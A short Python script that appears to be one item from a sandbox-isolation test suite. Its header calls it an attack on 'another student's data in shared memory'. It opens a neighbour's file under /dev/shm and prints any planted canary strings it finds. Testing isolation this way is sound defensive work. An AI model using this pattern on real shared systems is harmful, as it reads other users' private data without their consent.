# attack: reads another student's data in shared memory | class: reading | canary: text | exercise: crowd
import re

SECRET = re.compile(rb"canary:[a-z]+:[0-9a-f]{16}")


def show(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for found in set(SECRET.findall(data)):
        print(found.decode())

with open("/dev/shm/" + target.neighbor_address) as file:
    show(file.read())
